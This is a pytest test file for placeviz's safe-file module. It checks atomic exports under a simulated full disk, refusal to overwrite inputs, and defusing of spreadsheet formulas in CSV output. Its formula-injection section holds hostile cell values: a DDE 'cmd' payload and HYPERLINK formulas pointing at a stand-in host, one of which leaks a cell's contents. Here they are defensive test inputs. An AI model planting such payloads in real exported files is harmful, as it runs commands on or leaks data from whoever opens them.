"""Issue 13, "Work is lost": writing the user's files safely (placeviz.model.safe_files) and every file placeviz
writes outside workspaces going through it: atomic exports, no output over an input, a sentence for every
failure to write, and CSV cells that cannot run as spreadsheet formulas.

A disk that fills half-way is faked: ``disk_full`` makes every Python write in a folder stop half-way with
ENOSPC, and the writers Python cannot see into (GDAL, Qt's paint devices) are replaced by ones that write
half a file to the path they are given and fail the same way.
"""

from __future__ import annotations

import builtins
import errno
import io
import os
import stat
import sys
from pathlib import Path

import pandas as pd
import pytest

from placeviz.cli import main
from placeviz.model.errors import UserError
from placeviz.model.safe_files import (
    FileWriteError,
    SameFileError,
    atomic_write,
    defuse_formulas,
    refuse_input_as_output,
    write_via,
)

OLD = b"the previous file, which must survive\n"
LCR = ["E08000011", "E08000012", "E08000013", "E08000014", "E08000015", "E06000006"]  # Liverpool City Region


@pytest.fixture(autouse=True)
def _forget_imports():
    """Layers imported from the files written here leave the catalog after each test."""
    from placeviz.imports import imported_results, remove_from_catalog

    before = {r.layer.id for r in imported_results()}
    yield
    for r in imported_results():
        if r.layer.id not in before:
            remove_from_catalog(r.layer.id)


def leftovers(folder: Path, keep=()) -> list[str]:
    """Files in ``folder`` other than ``keep``: a temporary file left behind shows up here."""
    return sorted(p.name for p in folder.iterdir() if p.name not in set(keep))


class _HalfFile:
    """A file whose first write stops half-way with ENOSPC (what a full disk does)."""

    def __init__(self, f):
        self._f = f

    def write(self, data):
        self._f.write(data[: max(1, len(data) // 2)])
        self._f.flush()
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def writelines(self, lines):
        for line in lines:
            self.write(line)

    def __getattr__(self, name):
        return getattr(self._f, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._f.close()

    def __iter__(self):
        return iter(self._f)


@pytest.fixture
def disk_full(monkeypatch):
    """``disk_full(folder)``: from now on, every file Python opens for writing in ``folder`` fills up half-way."""
    real_open = builtins.open

    def arm(folder: Path):
        folder = Path(os.path.realpath(folder))

        def fake_open(file, mode="r", *args, **kwargs):
            f = real_open(file, mode, *args, **kwargs)
            if isinstance(file, (str, os.PathLike)) and any(c in mode for c in "wax") \
                    and Path(os.path.realpath(file)).parent == folder:
                return _HalfFile(f)
            return f

        monkeypatch.setattr(builtins, "open", fake_open)
        monkeypatch.setattr(io, "open", fake_open)

    return arm


def half_then_full(path, *args, **kwargs):
    """A stand-in for a writer Python cannot see into: half a file at ``path``, then a full disk."""
    Path(path).write_bytes(b"half a fi")
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def gdal_half_then_full(frame, path, *args, **kwargs):
    """``half_then_full`` in the place of ``pyogrio.write_dataframe(frame, path, ...)``."""
    half_then_full(path)


def table_file(path: Path, names=None) -> Path:
    """A small table of the user's: a value for each local authority of the Liverpool City Region."""
    names = names or [f"Area {i}" for i in range(len(LCR))]
    pd.DataFrame({"code": LCR, "name": names, "score": [5, -3, 2, 7, 1, 4]}).to_csv(path, index=False)
    return path


def boundary_file(path: Path, names) -> Path:
    """The user's own areas (a few Liverpool LSOAs) with the names given."""
    from placeviz.model.geography import boundaries

    g = boundaries("lsoa11")
    g = g[g.lad21_code == "E08000012"].head(len(names))[["code", "geometry"]].copy()
    g["ward_name"] = names
    g.to_file(path, driver="GPKG")
    return path


# -- 1. safe_files itself ---------------------------------------------------------------------------------------

def test_atomic_write_a_name_too_long_is_one_sentence(tmp_path):
    with pytest.raises(FileWriteError) as err:
        atomic_write(tmp_path / ("x" * 300 + ".csv"), b"data")
    assert "too long" in str(err.value) and "\n" not in str(err.value)
    assert leftovers(tmp_path) == []


def test_workspace_atomic_write_a_name_too_long_is_one_sentence(tmp_path):
    from placeviz import workspace

    with pytest.raises(UserError):
        workspace.atomic_write(tmp_path / ("x" * 300 + ".placeviz"), b"{}")


def test_atomic_write_failing_half_way_keeps_the_previous_file(tmp_path, disk_full):
    p = tmp_path / "out.csv"
    p.write_bytes(OLD)
    disk_full(tmp_path)
    with pytest.raises(FileWriteError, match="disk is full"):
        atomic_write(p, b"new bytes " * 1000)
    assert p.read_bytes() == OLD
    assert leftovers(tmp_path) == ["out.csv"]


def test_atomic_write_refuses_a_read_only_file(tmp_path):
    p = tmp_path / "kept.csv"
    p.write_bytes(OLD)
    p.chmod(0o444)
    with pytest.raises(FileWriteError, match="read-only"):
        atomic_write(p, b"new")
    assert p.read_bytes() == OLD and leftovers(tmp_path) == ["kept.csv"]


def test_atomic_write_into_a_folder_that_is_a_file(tmp_path):
    (tmp_path / "afile").write_text("x")
    with pytest.raises(FileWriteError, match="is a file, not a folder"):
        atomic_write(tmp_path / "afile" / "out.csv", b"new")


def test_atomic_write_keeps_modes_and_links(tmp_path):
    new = atomic_write(tmp_path / "new.csv", b"a")
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask  # as any new file, not mkstemp's 0600
    target = tmp_path / "target.csv"
    target.write_bytes(OLD)
    target.chmod(0o640)
    (tmp_path / "link.csv").symlink_to(target)
    atomic_write(tmp_path / "link.csv", b"new")
    assert (tmp_path / "link.csv").is_symlink() and target.read_bytes() == b"new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_write_via_never_leaves_its_temp_file(tmp_path):
    p = tmp_path / "out.gpkg"
    p.write_bytes(OLD)
    with pytest.raises(FileWriteError, match="disk is full"):
        write_via(p, half_then_full)
    with pytest.raises(ZeroDivisionError):  # not a write error: passes through, still tidied up
        write_via(p, lambda tmp: (tmp.write_bytes(b"x"), 1 / 0))
    with pytest.raises(FileWriteError, match="library says no"):  # a library's own error, named as a write error
        write_via(p, lambda tmp: (_ for _ in ()).throw(RuntimeError("library says no")), errors=(RuntimeError,))
    assert p.read_bytes() == OLD and leftovers(tmp_path) == ["out.gpkg"]
    write_via(p, lambda tmp: tmp.write_bytes(b"done"))
    assert p.read_bytes() == b"done" and leftovers(tmp_path) == ["out.gpkg"]


def test_refuse_input_as_output_resolves_paths(tmp_path, monkeypatch):
    src = tmp_path / "a.csv"
    src.write_bytes(OLD)
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(src)
    monkeypatch.chdir(tmp_path / "sub")
    for out in (src, "../a.csv", tmp_path / "sub" / ".." / "a.csv", tmp_path / "link.csv"):
        with pytest.raises(SameFileError, match="being read"):
            refuse_input_as_output(out, [src])
    refuse_input_as_output(tmp_path / "b.csv", [src, None])  # another name is fine


# -- 2. exports and command outputs are atomic -------------------------------------------------------------------

LIVERPOOL = dict(place="Liverpool", level="la", layer="imd2019")


def _spec():
    from placeviz.model.spec import MapSpec

    return MapSpec(**LIVERPOOL)


def test_csv_export_and_its_sidecar_survive_a_full_disk(tmp_path, disk_full):
    from placeviz.export.tables import export_csv

    out = tmp_path / "map.csv"
    out.write_bytes(OLD)
    side = b"Layer: an earlier export's note of its sources\n"  # placeviz's own, which it may replace
    (tmp_path / "map.csv.txt").write_bytes(side)
    disk_full(tmp_path)
    with pytest.raises(UserError) as err:
        export_csv(_spec(), out)
    assert out.read_bytes() == OLD and (tmp_path / "map.csv.txt").read_bytes() == side
    assert "disk is full" in str(err.value)
    assert leftovers(tmp_path) == ["map.csv", "map.csv.txt"]


def test_html_export_survives_a_full_disk(tmp_path, disk_full):
    from placeviz.export.html import export_html

    out = tmp_path / "map.html"
    out.write_bytes(OLD)
    disk_full(tmp_path)
    with pytest.raises(UserError) as err:
        export_html(_spec(), out)
    assert out.read_bytes() == OLD and leftovers(tmp_path) == ["map.html"]
    assert "disk is full" in str(err.value)


def test_gpkg_export_survives_a_full_disk(tmp_path, monkeypatch):
    import pyogrio

    from placeviz.export.tables import export_gpkg

    out = tmp_path / "map.gpkg"
    export_gpkg(_spec(), out)  # a GeoPackage there already: its layers are added to, in a copy
    old = out.read_bytes()
    monkeypatch.setattr(pyogrio, "write_dataframe", gdal_half_then_full)
    with pytest.raises(UserError) as err:
        export_gpkg(_spec(), out)
    assert out.read_bytes() == old and leftovers(tmp_path) == ["map.gpkg"]
    assert "disk is full" in str(err.value)


@pytest.mark.parametrize("fmt", ["png", "svg", "pdf"])
def test_image_exports_survive_a_full_disk(tmp_path, monkeypatch, fmt):
    from placeviz.export import static

    out = tmp_path / f"map.{fmt}"
    out.write_bytes(OLD)
    monkeypatch.setattr(static, f"paint_{fmt}", half_then_full)
    with pytest.raises(UserError) as err:
        static.export_static(_spec(), out)
    assert out.read_bytes() == OLD and leftovers(tmp_path) == [out.name]
    assert "disk is full" in str(err.value)


def test_image_exports_write_through_a_temp_file(tmp_path):
    from placeviz.export.static import export_static

    out = tmp_path / "map.pdf"
    out.write_bytes(OLD)
    export_static(_spec(), out)
    assert out.read_bytes().startswith(b"%PDF") and leftovers(tmp_path) == ["map.pdf"]


def test_profile_pdf_survives_a_full_disk(tmp_path, monkeypatch):
    from types import SimpleNamespace

    from placeviz.export import static

    out = tmp_path / "profile.pdf"
    out.write_bytes(OLD)
    monkeypatch.setattr(static, "paint_pdf", half_then_full)
    with pytest.raises(UserError) as err:
        static.export_profile_pdf(SimpleNamespace(name="Liverpool"), [], out)
    assert out.read_bytes() == OLD and leftovers(tmp_path) == ["profile.pdf"]
    assert "disk is full" in str(err.value)


def test_compare_command_outputs_survive_a_full_disk(tmp_path, disk_full, capsys):
    out = tmp_path / "two.csv"
    out.write_bytes(OLD)
    side = b"Comparison of places written by placeviz.\n"  # an earlier comparison's note, which it may replace
    (tmp_path / "two.csv.txt").write_bytes(side)
    disk_full(tmp_path)
    assert main(["compare", "--place", "Liverpool", "--place", "Wirral", "--layer", "imd2019", "-o", str(out)]) == 2
    assert out.read_bytes() == OLD and (tmp_path / "two.csv.txt").read_bytes() == side
    assert leftovers(tmp_path) == ["two.csv", "two.csv.txt"]
    assert "disk is full" in capsys.readouterr().err


def test_compare_write_csv_survives_a_full_disk(tmp_path, disk_full):
    from placeviz.analysis.compare import write_csv

    out = tmp_path / "t.csv"
    out.write_bytes(OLD)
    disk_full(tmp_path)
    with pytest.raises(UserError) as err:
        write_csv(pd.DataFrame({"a": range(1000)}), out)
    assert out.read_bytes() == OLD and leftovers(tmp_path) == ["t.csv"]
    assert "disk is full" in str(err.value)


def test_import_output_survives_a_full_disk(tmp_path, disk_full, capsys):
    src = table_file(tmp_path / "mine.csv")
    outdir = tmp_path / "out"
    outdir.mkdir()
    out = outdir / "values.csv"
    out.write_bytes(OLD)
    disk_full(outdir)
    assert main(["import", str(src), "-o", str(out)]) == 2
    assert out.read_bytes() == OLD and leftovers(outdir) == ["values.csv"]
    assert "disk is full" in capsys.readouterr().err


def test_import_gpkg_output_survives_a_full_disk(tmp_path, monkeypatch, capsys):
    import pyogrio

    src = boundary_file(tmp_path / "wards.gpkg", ["a", "b"])
    outdir = tmp_path / "out"
    outdir.mkdir()
    out = outdir / "wards_imd.gpkg"
    out.write_bytes(OLD)
    monkeypatch.setattr(pyogrio, "write_dataframe", gdal_half_then_full)
    assert main(["import", str(src), "--layer", "imd2019", "-o", str(out)]) == 2
    assert out.read_bytes() == OLD and leftovers(outdir) == ["wards_imd.gpkg"]
    assert "disk is full" in capsys.readouterr().err


def test_profile_output_survives_a_full_disk(tmp_path, disk_full, capsys):
    out = tmp_path / "profile.html"
    out.write_bytes(OLD)
    disk_full(tmp_path)
    assert main(["profile", "--place", "Knowsley", "--no-hotspots", "-o", str(out)]) == 2
    assert out.read_bytes() == OLD and leftovers(tmp_path) == ["profile.html"]
    assert "disk is full" in capsys.readouterr().err


# -- 3. an output never replaces an input ----------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["import", "{a}", "-o", "{a}"],
    ["export", "csv", "--place", "Liverpool City Region", "--level", "la", "--layer", "{a}", "-o", "{rel}"],
    ["export", "html", "--place", "Liverpool City Region", "--level", "la", "--layer", "{a}", "-o", "{a}"],
    ["compare", "--place", "Liverpool", "--place", "Wirral", "--layer", "{a}", "-o", "{link}"],
])
def test_an_output_that_is_an_input_is_refused(tmp_path, monkeypatch, capsys, argv):
    src = table_file(tmp_path / "mine.csv")
    before = src.read_bytes()
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(src)
    monkeypatch.chdir(tmp_path / "sub")
    subst = {"{a}": str(src), "{rel}": f"../{src.name}", "{link}": str(tmp_path / "link.csv")}
    rc = main([subst.get(x, x) for x in argv])
    err = capsys.readouterr().err
    assert rc == 2 and "being read" in err and "Traceback" not in err
    assert src.read_bytes() == before
    assert leftovers(tmp_path) == sorted(["link.csv", src.name, "sub"])


def test_import_gpkg_output_keeps_its_layer_name(tmp_path, capsys):
    """Written through a temporary file, the GeoPackage's layer is still named after the file asked for."""
    import pyogrio

    src = boundary_file(tmp_path / "wards.gpkg", ["a", "b"])
    assert main(["import", str(src), "--layer", "imd2019", "-o", str(tmp_path / "wards_imd.gpkg")]) == 0
    assert [name for name, _ in pyogrio.list_layers(tmp_path / "wards_imd.gpkg")] == ["wards_imd"]


def test_import_boundaries_into_their_own_geopackage_is_refused(tmp_path, capsys):
    src = boundary_file(tmp_path / "wards.gpkg", ["a", "b"])
    before = src.read_bytes()
    assert main(["import", str(src), "--layer", "imd2019", "-o", str(src)]) == 2
    assert "being read" in capsys.readouterr().err
    assert src.read_bytes() == before


def test_exporting_an_imported_layer_over_its_own_file_is_refused(tmp_path):
    """The desktop app and the Python API: an imported layer's source file is never an export's target."""
    from placeviz.export.html import export_html
    from placeviz.export.tables import export_csv
    from placeviz.imports import layer_from_file
    from placeviz.model.spec import MapSpec
    from placeviz.model.viewstate import classification_for

    src = table_file(tmp_path / "mine.csv")
    before = src.read_bytes()
    layer = layer_from_file(src)
    spec = MapSpec(place="Liverpool City Region", level="la", layer=layer.id,
                   classification=classification_for(layer))
    for export in (export_csv, export_html):
        with pytest.raises(SameFileError):
            export(spec, src)
    assert src.read_bytes() == before


def test_the_compare_window_does_not_write_its_csv_over_an_imported_file(make_compare_window, qtbot, tmp_path):
    """Issue 13's 'output is an input', in the desktop app: the comparison's CSV over the user's own table."""
    from placeviz.imports import layer_from_file

    src = tmp_path / "mine.csv"
    src.write_text("code,score\nE08000012,5\nE08000011,-3\n")
    before = src.read_bytes()
    layer_from_file(src)
    w = make_compare_window(_spec())
    qtbot.waitUntil(lambda: w.comparison is not None, timeout=30_000)
    assert w.export_csv(str(src)) is None
    assert src.read_bytes() == before and "being read" in w.last_error



def test_an_export_never_replaces_the_bundled_data(tmp_path, monkeypatch):
    """Every map reads the bundled layers and boundaries: an output there is refused (tested on a stand-in
    folder, so that a failure here cannot damage the real bundle)."""
    import placeviz.export.outputs as outputs
    from placeviz.export.html import export_html
    from placeviz.export.static import export_static
    from placeviz.export.tables import export_csv

    fake = tmp_path / "layers"
    (fake / "tables").mkdir(parents=True)
    victim = fake / "tables" / "imd2019.parquet"
    victim.write_bytes(OLD)
    monkeypatch.setattr(outputs, "layers_dir", lambda: fake, raising=False)
    for export in (export_csv, export_html, export_static):
        with pytest.raises(SameFileError, match="own data"):
            export(_spec(), victim, **({"fmt": "png"} if export is export_static else {}))
    assert victim.read_bytes() == OLD
    export_csv(_spec(), fake / "tables" / "new.csv")  # a new file beside them is the user's business

# -- 4. a folder that cannot be written ------------------------------------------------------------------------

def test_gpkg_export_into_a_folder_that_is_a_file_is_a_sentence(tmp_path, capsys):
    (tmp_path / "afile").write_text("x")
    rc = main(["export", "gpkg", "--place", "Liverpool", "--level", "la", "--layer", "imd2019",
               "-o", str(tmp_path / "afile" / "map.gpkg")])
    err = capsys.readouterr().err
    assert rc == 2 and "not a folder" in err and "Traceback" not in err


def test_gpkg_export_that_gdal_cannot_open_is_a_sentence(tmp_path, monkeypatch):
    """GDAL's own error for a folder it may not write to (as a normal user sees it; root is never refused)."""
    import pyogrio
    from pyogrio.errors import DataSourceError

    from placeviz.export.tables import export_gpkg

    def refuse(path, *a, **k):
        raise DataSourceError(f"sqlite3_open({path}) failed: unable to open database file")

    monkeypatch.setattr(pyogrio, "write_dataframe", refuse)
    with pytest.raises(UserError, match=r"Could not write map\.gpkg"):
        export_gpkg(_spec(), tmp_path / "map.gpkg")
    assert leftovers(tmp_path) == []


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="root may write anywhere")
def test_gpkg_export_into_a_read_only_folder_is_a_sentence(tmp_path):
    from placeviz.export.tables import export_gpkg

    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(UserError, match="may not write"):
            export_gpkg(_spec(), folder / "map.gpkg")
    finally:
        folder.chmod(0o755)


DROP_PRIVILEGES = """
import os, sys
from placeviz.export.tables import export_csv, export_gpkg
from placeviz.model.mapdata import map_data
from placeviz.model.spec import MapSpec
spec = MapSpec(place="Liverpool", level="la", layer="imd2019")
md = map_data("Liverpool", "la", "imd2019")
warm = sys.argv[1]
export_gpkg(spec, os.path.join(warm, "w.gpkg"), mapdata=md)  # everything loaded while still root
export_csv(spec, os.path.join(warm, "w.csv"), mapdata=md)
os.setgid(65534)
os.setuid(65534)  # nobody: folder permissions apply again
assert not os.access(sys.argv[2], os.W_OK)
for export, name in ((export_gpkg, "map.gpkg"), (export_csv, "map.csv")):
    try:
        export(spec, os.path.join(sys.argv[2], name), mapdata=md)
    except Exception as exc:
        print(type(exc).__name__, exc)
"""


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() != 0, reason="needs root, to become nobody")
def test_gpkg_export_into_a_read_only_folder_as_a_normal_user(tmp_path):
    """Run as root (as CI here is), which ignores permissions: a process that becomes 'nobody' sees them."""
    import subprocess
    import tempfile

    base = Path(tempfile.mkdtemp())  # under /tmp, which nobody may enter (pytest's tmp_path is root's only)
    try:
        base.chmod(0o755)
        ro = base / "ro"
        ro.mkdir(mode=0o555)
        r = subprocess.run([sys.executable, "-c", DROP_PRIVILEGES, str(tmp_path), str(ro)], capture_output=True,
                           text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        assert r.stdout.splitlines() == [
            f"FileWriteError Could not write {n} (you may not write there): any previous file is unchanged; "
            "choose another folder or name." for n in ("map.gpkg", "map.csv")]
        assert list(ro.iterdir()) == []
    finally:
        (base / "ro").chmod(0o755)
        for p in sorted(base.rglob("*"), reverse=True):
            p.rmdir() if p.is_dir() else p.unlink()
        base.rmdir()


# -- 5. CSV cells that a spreadsheet would run ---------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(A1)", "\tTAB", "-2+3"]


def test_defuse_formulas_touches_text_only():
    f = pd.DataFrame({"name": EVIL, "value": [-1.5, -2, 3, 4, 5, 6],
                      "mixed": [-3.0, "-3", None, "ok", "=1", 7]})
    out = defuse_formulas(f)
    assert out["name"].tolist() == ["'" + x for x in EVIL]
    assert out["value"].tolist() == [-1.5, -2, 3, 4, 5, 6]  # negative numbers stay numbers
    assert out["mixed"].tolist()[:2] == [-3.0, "'-3"] and out["mixed"].tolist()[4] == "'=1"
    # and the header row: a boundary file's own column names went into the CSV as they came (from a hostile run)
    named = defuse_formulas(pd.DataFrame({'=HYPERLINK("http://x?"&A2,"click")': [1], "@SUM(1+1)": [2], "ok": [3]}))
    assert list(named.columns) == ["'=HYPERLINK(\"http://x?\"&A2,\"click\")", "'@SUM(1+1)", "ok"]


def test_compare_csv_keeps_negative_numbers_in_text_columns_as_numbers(tmp_path):
    from placeviz.analysis.compare import write_csv

    out = write_csv(pd.DataFrame({"note": ["=1+1", "fine"], "diff": pd.Series([-2.5, None], dtype=object)}),
                    tmp_path / "t.csv")
    back = pd.read_csv(out)
    assert back["note"].tolist() == ["'=1+1", "fine"] and back["diff"].tolist()[0] == -2.5


def test_import_output_of_boundaries_defuses_names(tmp_path, capsys):
    names = EVIL[:4]
    src = boundary_file(tmp_path / "wards.gpkg", names)
    assert main(["import", str(src), "--layer", "imd2019", "-o", str(tmp_path / "out.csv")]) == 0
    back = pd.read_csv(tmp_path / "out.csv")
    assert back["ward_name"].tolist() == ["'" + x for x in names]
    assert (back["value"] > 0).all()


def test_import_output_of_a_table_defuses_text(tmp_path, capsys):
    src = table_file(tmp_path / "mine.csv")
    assert main(["import", str(src), "-o", str(tmp_path / "out.csv")]) == 0
    back = pd.read_csv(tmp_path / "out.csv")
    assert back["value"].tolist() == [5, -3, 2, 7, 1, 4]  # negative values stay numbers


def test_map_csv_defuses_every_text_column(tmp_path, monkeypatch):
    """Not only names: the unit, period and layer columns can come from the user's file too."""
    import placeviz.export.tables as tables

    real = tables.table_frame

    def evil(p, geometry=False):
        f = real(p, geometry)
        for col in ("unit", "period", "layer", "name"):
            f[col] = "=cmd|' /C calc'!A0"
        return f

    monkeypatch.setattr(tables, "table_frame", evil)
    out = tables.export_csv(_spec(), tmp_path / "m.csv")
    back = pd.read_csv(out, dtype=str)
    for col in ("unit", "period", "layer", "name"):
        assert set(back[col]) == {"'=cmd|' /C calc'!A0"}, col
    assert pd.to_numeric(back["value"]).notna().all()
